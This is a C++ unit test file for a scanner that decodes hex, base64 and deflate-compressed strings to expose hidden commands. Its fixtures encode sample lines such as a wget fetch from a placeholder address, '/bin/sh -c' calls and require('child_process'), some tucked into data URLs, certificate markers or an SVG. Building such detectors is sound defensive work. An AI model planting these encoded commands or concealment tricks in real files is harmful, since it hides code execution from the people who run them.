#include "tests/facts/examine.h"

namespace assay::facts {
namespace {

using testing::Examine;
using testing::PlaceText;
using testing::Sample;
using testing::Sweep;

const Bytes kLogo = Sample("facts/encoded_text/logo.svg");

constexpr std::string_view kAsks = "os.system('wget http://192.0.2.7/inert')\n";

// The digits were made by Python's base64, gzip and zlib.
struct Case {
  std::string_view name;
  std::string_view text;
  std::string_view meaning;
  std::string_view encoding;
};
constexpr Case kCases[] = {
    {"hexadecimal digits",
     "x = '2f62696e2f7368202d6320226563686f20696e657274220a';",
     "/bin/sh -c \"echo inert\"\n", "hex"},
    {"in the alphabet for addresses, without padding",
     "t=L2Jpbi9zaCAtYyAiZWNobyBpbmVydCA_Pz8gaW5lcnQi",
     "/bin/sh -c \"echo inert ??? inert\"", "base64"},
    {"twice",
     "YjNNdWMzbHpkR1Z0S0NkM1oyVjBJR2gwZEhBNkx5OHhPVEl1TUM0eUxqY3ZhVz"
     "VsY25RbktRbz0=",
     kAsks, "base64+base64"},
    {"deflated, with the frame of gzip",
     "H4sIAAAAAAACA8sv1iuuLC5JzdVQL09PLVHIKCkpsNLXN7Q00jPQM9Iz18/MSy0qUdfkAg"
     "DHNnMuKQAAAA==",
     kAsks, "base64+deflate"},
    {"deflated, with the frame of zlib",
     "eJzLL9YrriwuSc3VUC9PTy1RyCgpKbDS1ze0NNIz0DPSM9fPzEstKlHX5AIAI4kMng==",
     kAsks, "base64+deflate"},
    {"over several lines",
     "YWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFh\n"
     "IC9iaW4vc2ggaW5lcnQK\n",
     "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa /bin/sh inert\n", "base64"},
    {"behind the mark of a picture",
     "url(data:image/png;base64,cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp)",
     "require(\"child_process\")", "base64"},
    {"between the marks of a certificate",
     "-----BEGIN CERTIFICATE-----\ncmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp\n",
     "require(\"child_process\")", "base64"},
    {"code in the form of an address",
     "import('data:text/javascript;base64,"
     "cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp')",
     "require(\"child_process\")", "base64"},
};

TEST(EncodedTextTest, ReadsWhatStandsInDigits) {
  const auto logo = Examine(kEncodedText, "logo.svg", kLogo);
  ASSERT_EQ(logo.facts.size(), 1U);
  EXPECT_FALSE(logo.understood);
  EXPECT_EQ(logo.facts[0].value,
            "require(\"http\").get(\"http://192.0.2.91/inert\");");
  EXPECT_EQ(PlaceText(logo.facts[0], kLogo).size(), 63U);
  for (const Case& each : kCases) {
    const auto seen = Examine(kEncodedText, "x", each.text);
    ASSERT_EQ(seen.facts.size(), 1U) << each.name;
    EXPECT_EQ(seen.facts[0].value, each.meaning) << each.name;
    EXPECT_EQ(seen.facts[0].Attribute("encoding"), each.encoding) << each.name;
  }
}

TEST(EncodedTextTest, MapsDigestsAndSentencesAreNothing) {
  constexpr std::string_view kNothing[] = {
      // {"version":3,"sourcesContent":["require('child_process')"]}
      "//# "
      "sourceMappingURL=data:application/"
      "json;base64,"
      "eyJ2ZXJzaW9uIjozLCJzb3VyY2VzQ29udGVudCI6WyJyZXF1aXJlKCdjaGlsZF9wcm9jZXNz"
      "JykiXX0=",
      "VGhlIHF1aWNrIGJyb3duIGZveCBqdW1wcyBvdmVyIHRoZSBkb2cu",  // a sentence
      "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
      "L2Jpbi9zaCBzaG9ydA==",  // "/bin/sh short": too short to be told apart
      "an_identifier_that_is_longer_than_thirty_two_characters",
  };
  for (const std::string_view text : kNothing) {
    EXPECT_TRUE(Examine(kEncodedText, "x", text).facts.empty()) << text;
  }
}

// "aaa" and so on, so that none can be told from the beginning.
std::string LongRuns(std::string_view digits, int runs) {
  std::string run;
  while (run.size() < 300000) {
    run += digits;
  }
  std::string text;
  for (int i = 0; i < runs; ++i) {
    text += run + "\n ";
  }
  return text;
}

TEST(EncodedTextTest, EndlessRunsCostWhatTheLimitSays) {
  const auto seen = Examine(kEncodedText, "x", LongRuns("YWFh", 120));
  ASSERT_EQ(seen.facts.size(), 1U);
  EXPECT_EQ(seen.facts[0].kind, "facts.truncated");
  // What is no text is not decoded, however much of it there is.
  EXPECT_TRUE(Examine(kEncodedText, "x", LongRuns("AAAz", 120)).facts.empty());
}

TEST(EncodedTextTest, DamageNeverLeadsOutside) {
  Sweep(kEncodedText, "logo.svg", kLogo, {0x01, 0x80});
}

}  // namespace
}  // namespace assay::facts
